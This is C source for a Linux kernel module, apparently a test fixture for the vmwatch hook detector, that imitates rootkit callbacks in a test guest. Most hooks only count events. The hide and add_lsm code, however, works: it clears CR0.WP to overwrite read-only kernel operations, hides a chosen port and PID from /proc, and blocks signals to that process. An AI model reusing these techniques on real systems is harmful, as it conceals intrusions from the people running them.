// SPDX-License-Identifier: GPL-2.0
/*
 * vmw_hooks: the kernel callbacks rootkits register instead of patching
 * code, for vmwatch's tests. Loaded in a test guest only.
 *
 *   insmod vmw_hooks.ko [tty=1] [hide_port=PORT] [hide_pid=PID]
 *
 * - a netfilter hook on IPv4 PRE_ROUTING in the first network namespace
 *   that watches for a magic ICMP echo (payload starting "vmw-magic") and
 *   logs it, as a magic-packet backdoor waits for its trigger; every packet
 *   is accepted;
 * - a keyboard notifier that counts key presses, as a keylogger would
 *   record them;
 * - with tty=1, a tty sniffer on the terminal insmod runs on: that tty's
 *   operations and its line discipline's operations are swapped for copies
 *   whose write and receive_buf count the bytes and call the originals.
 *   Restored on rmmod;
 * - a probe on the sched_process_exec tracepoint that counts execs, as a
 *   rootkit watches what runs;
 * - a kernel perf counter on CPU 0 (software CPU clock, every 10 ms) whose
 *   overflow handler counts its calls, as code that runs periodically
 *   without a timer of its own;
 * - with hide_port, /proc/net/tcp and tcp6 stop listing the TCP sockets
 *   of that local port, and with hide_pid, listing /proc skips that process: the
 *   show of the seq_operations behind both and the iterate_shared
 *   of /proc's file_operations are overwritten in the kernel's read-only
 *   data, with CR0.WP cleared as rootkits do. Both are found through the
 *   files themselves (the seq_file's op, the file's f_op). Restored on
 *   rmmod;
 * - with lsm_table (the address of security_hook_heads before Linux 6.12,
 *   of static_calls_table from 6.12 on, from /proc/kallsyms), a task_kill
 *   security hook that refuses signals to hide_pid: an entry added to the
 *   hook's list, or the hook's last static call slot pointed at it and
 *   enabled. Removed on rmmod.
 */
#include <linux/module.h>
#include <linux/version.h>
#include <linux/netfilter.h>
#include <linux/netfilter_ipv4.h>
#include <linux/ip.h>
#include <linux/icmp.h>
#include <linux/skbuff.h>
#include <linux/keyboard.h>
#include <linux/notifier.h>
#include <net/net_namespace.h>
#include <linux/tty.h>
#include <linux/tty_ldisc.h>
#include <linux/tty_driver.h>
#include <linux/tracepoint.h>
#include <linux/fs.h>
#include <linux/seq_file.h>
#include <linux/sched.h>
#include <net/sock.h>
#include <linux/lsm_hooks.h>
#include <linux/perf_event.h>
#include <linux/static_call.h>
#include <linux/jump_label.h>
#include <asm/special_insns.h>

static unsigned long keys, written, received, execs, samples;

static int hide_port;
module_param(hide_port, int, 0444);
static int hide_pid;
module_param(hide_pid, int, 0444);
static unsigned long lsm_table;
module_param(lsm_table, ulong, 0444);

static int tty;
module_param(tty, int, 0444);

static struct tty_struct *sniffed;
static const struct tty_operations *orig_ops;
static struct tty_operations sniff_ops;
static struct tty_ldisc_ops *orig_ldisc_ops;
static struct tty_ldisc_ops sniff_ldisc_ops;

/* the signatures changed in Linux 6.6 */
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 6, 0)
static ssize_t vmw_hooks_tty_write(struct tty_struct *t, const u8 *buf, size_t count)
#else
static int vmw_hooks_tty_write(struct tty_struct *t, const u8 *buf, int count)
#endif
{
	written += count;
	return orig_ops->write(t, buf, count);
}

#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 6, 0)
static void vmw_hooks_receive_buf(struct tty_struct *t, const u8 *cp, const u8 *fp, size_t count)
#else
static void vmw_hooks_receive_buf(struct tty_struct *t, const unsigned char *cp, const char *fp, int count)
#endif
{
	received += count;
	orig_ldisc_ops->receive_buf(t, cp, fp, count);
}

static unsigned int vmw_hooks_nf(void *priv, struct sk_buff *skb, const struct nf_hook_state *state)
{
	const struct iphdr *ip = ip_hdr(skb);
	char magic[9];

	if (ip->protocol == IPPROTO_ICMP &&
	    skb_copy_bits(skb, ip->ihl * 4 + sizeof(struct icmphdr), magic, sizeof(magic)) == 0 &&
	    memcmp(magic, "vmw-magic", sizeof(magic)) == 0)
		pr_info("vmw_hooks: magic packet\n");
	return NF_ACCEPT;
}

static struct nf_hook_ops vmw_hooks_ops = {
	.hook = vmw_hooks_nf,
	.pf = NFPROTO_IPV4,
	.hooknum = NF_INET_PRE_ROUTING,
	.priority = NF_IP_PRI_FIRST,
};

static int vmw_hooks_kbd(struct notifier_block *nb, unsigned long action, void *data)
{
	if (action == KBD_KEYCODE)
		keys++;
	return NOTIFY_OK;
}

static struct notifier_block vmw_hooks_nb = { .notifier_call = vmw_hooks_kbd };

static struct perf_event *perf;

static void vmw_hooks_perf(struct perf_event *e, struct perf_sample_data *d, struct pt_regs *regs)
{
	samples++;
}

static int add_perf(void)
{
	struct perf_event_attr attr = {
		.type = PERF_TYPE_SOFTWARE,
		.config = PERF_COUNT_SW_CPU_CLOCK,
		.size = sizeof(attr),
		.sample_period = 10 * NSEC_PER_MSEC,
	};

	perf = perf_event_create_kernel_counter(&attr, 0, NULL, vmw_hooks_perf, NULL);
	if (IS_ERR(perf)) {
		int err = PTR_ERR(perf);

		perf = NULL;
		return err;
	}
	return 0;
}

static void del_perf(void)
{
	if (perf)
		perf_event_release_kernel(perf);
	perf = NULL;
}

/* the tracepoint probe: sched_process_exec(p, old_pid, bprm) */
static struct tracepoint *exec_tp;

static void vmw_hooks_exec(void *data, struct task_struct *p, pid_t old_pid, void *bprm)
{
	execs++;
}

static void find_exec_tp(struct tracepoint *tp, void *priv)
{
	if (strcmp(tp->name, "sched_process_exec") == 0)
		exec_tp = tp;
}

/* writes to read-only kernel data: CR0.WP off with interrupts off (the
 * kernel's own write_cr0 pins WP, so rootkits write CR0 themselves) */
static unsigned long wp_off(void)
{
	unsigned long cr0 = native_read_cr0(), flags;

	local_irq_save(flags);
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
	return flags;
}

static void wp_on(unsigned long flags)
{
	unsigned long cr0 = native_read_cr0() | X86_CR0_WP;

	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	local_irq_restore(flags);
}

static void write_ro(void **slot, void *val)
{
	unsigned long flags = wp_off();

	WRITE_ONCE(*slot, val);
	wp_on(flags);
}

static int vmw_hooks_task_kill(struct task_struct *p, struct kernel_siginfo *info, int sig, const struct cred *cred)
{
	return sig && hide_pid && task_tgid_nr(p) == hide_pid ? -EPERM : 0;
}

#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 12, 0)
static struct lsm_static_call *lsm_slot;

static int add_lsm(void)
{
	struct lsm_static_calls_table *t = (void *)lsm_table;

	lsm_slot = &t->task_kill[MAX_LSM_COUNT - 1];
	if (lsm_slot->hl) {
		lsm_slot = NULL;
		return -EBUSY;
	}
	__static_call_update(lsm_slot->key, lsm_slot->trampoline, vmw_hooks_task_kill);
	static_branch_enable(lsm_slot->active);
	return 0;
}

static void del_lsm(void)
{
	if (!lsm_slot)
		return;
	static_branch_disable(lsm_slot->active);
	__static_call_update(lsm_slot->key, lsm_slot->trampoline, NULL);
	lsm_slot = NULL;
}
#else
static struct security_hook_list lsm_entry;

static int add_lsm(void)
{
	struct security_hook_heads *heads = (void *)lsm_table;
	unsigned long flags;

	lsm_entry.head = &heads->task_kill;
	lsm_entry.hook.task_kill = vmw_hooks_task_kill;
	lsm_entry.lsm = "vmw_hooks";
	flags = wp_off();
	hlist_add_tail_rcu(&lsm_entry.list, lsm_entry.head);
	wp_on(flags);
	return 0;
}

static void del_lsm(void)
{
	unsigned long flags;

	if (!lsm_entry.head)
		return;
	flags = wp_off();
	hlist_del_rcu(&lsm_entry.list);
	wp_on(flags);
	synchronize_rcu();
	lsm_entry.head = NULL;
}
#endif

static const char *const tcp_files[2] = { "/proc/net/tcp", "/proc/net/tcp6" };
static struct seq_operations *tcp_ops[2];
static int (*orig_tcp_show[2])(struct seq_file *, void *);

static int vmw_hooks_tcp_show(struct seq_file *seq, void *v)
{
	int i = seq->op == tcp_ops[1];

	if (v != SEQ_START_TOKEN && ((struct sock_common *)v)->skc_num == hide_port)
		return 0;
	return orig_tcp_show[i](seq, v);
}

static struct file_operations *proc_fops;
static int (*orig_proc_iterate)(struct file *, struct dir_context *);
static char hide_name[16];

struct hide_ctx {
	struct dir_context ctx;
	struct dir_context *orig;
};

static bool hide_actor(struct dir_context *c, const char *name, int len, loff_t off, u64 ino, unsigned int type)
{
	struct hide_ctx *h = container_of(c, struct hide_ctx, ctx);

	if (len == strlen(hide_name) && memcmp(name, hide_name, len) == 0)
		return true;
	h->orig->pos = c->pos;
	return h->orig->actor(h->orig, name, len, off, ino, type);
}

static int vmw_hooks_proc_iterate(struct file *f, struct dir_context *ctx)
{
	struct hide_ctx h = { .ctx = { .actor = hide_actor, .pos = ctx->pos }, .orig = ctx };
	int ret = orig_proc_iterate(f, &h.ctx);

	ctx->pos = h.ctx.pos;
	return ret;
}

static int hide(void)
{
	struct file *f;
	int i;

	for (i = 0; hide_port && i < 2; i++) {
		f = filp_open(tcp_files[i], O_RDONLY, 0);
		if (IS_ERR(f))
			return PTR_ERR(f);
		tcp_ops[i] = (struct seq_operations *)((struct seq_file *)f->private_data)->op;
		filp_close(f, NULL);
		orig_tcp_show[i] = tcp_ops[i]->show;
		write_ro((void **)&tcp_ops[i]->show, vmw_hooks_tcp_show);
	}
	if (hide_pid) {
		f = filp_open("/proc", O_RDONLY | O_DIRECTORY, 0);
		if (IS_ERR(f))
			return PTR_ERR(f);
		proc_fops = (struct file_operations *)f->f_op;
		filp_close(f, NULL);
		snprintf(hide_name, sizeof(hide_name), "%d", hide_pid);
		orig_proc_iterate = proc_fops->iterate_shared;
		write_ro((void **)&proc_fops->iterate_shared, vmw_hooks_proc_iterate);
	}
	return 0;
}

static void unhide(void)
{
	int i;

	if (proc_fops)
		write_ro((void **)&proc_fops->iterate_shared, orig_proc_iterate);
	for (i = 0; i < 2; i++)
		if (tcp_ops[i])
			write_ro((void **)&tcp_ops[i]->show, orig_tcp_show[i]);
}

static int __init vmw_hooks_init(void)
{
	int err = nf_register_net_hook(&init_net, &vmw_hooks_ops);

	if (err)
		return err;
	err = register_keyboard_notifier(&vmw_hooks_nb);
	if (err)
		goto out_nf;
	for_each_kernel_tracepoint(find_exec_tp, NULL);
	err = exec_tp ? tracepoint_probe_register(exec_tp, vmw_hooks_exec, NULL) : -ENOENT;
	if (err)
		goto out_kbd;
	err = add_perf();
	if (err)
		goto out_tp;
	err = hide();
	if (err)
		goto out_hide;
	err = lsm_table ? add_lsm() : 0;
	if (err)
		goto out_hide;
	if (tty) {
		sniffed = get_current_tty();
		if (!sniffed) {
			err = -ENOTTY;
			goto out_hide;
		}
		orig_ops = sniffed->ops;
		sniff_ops = *orig_ops;
		sniff_ops.write = vmw_hooks_tty_write;
		sniffed->ops = &sniff_ops;
		orig_ldisc_ops = sniffed->ldisc->ops;
		sniff_ldisc_ops = *orig_ldisc_ops;
		sniff_ldisc_ops.receive_buf = vmw_hooks_receive_buf;
		sniffed->ldisc->ops = &sniff_ldisc_ops;
	}
	pr_info("vmw_hooks: loaded\n");
	return 0;
out_hide:
	del_lsm();
	unhide();
	del_perf();
out_tp:
	if (exec_tp) {
		tracepoint_probe_unregister(exec_tp, vmw_hooks_exec, NULL);
		tracepoint_synchronize_unregister();
	}
out_kbd:
	unregister_keyboard_notifier(&vmw_hooks_nb);
out_nf:
	nf_unregister_net_hook(&init_net, &vmw_hooks_ops);
	return err;
}

static void __exit vmw_hooks_exit(void)
{
	if (sniffed) {
		sniffed->ldisc->ops = orig_ldisc_ops;
		sniffed->ops = orig_ops;
		tty_kref_put(sniffed);
		pr_info("vmw_hooks: %lu bytes written, %lu received\n", written, received);
	}
	del_lsm();
	unhide();
	del_perf();
	tracepoint_probe_unregister(exec_tp, vmw_hooks_exec, NULL);
	tracepoint_synchronize_unregister();
	pr_info("vmw_hooks: %lu execs, %lu perf samples\n", execs, samples);
	unregister_keyboard_notifier(&vmw_hooks_nb);
	nf_unregister_net_hook(&init_net, &vmw_hooks_ops);
}

module_init(vmw_hooks_init);
module_exit(vmw_hooks_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmwatch test: kernel callbacks, operations swapped, a tracepoint probe");
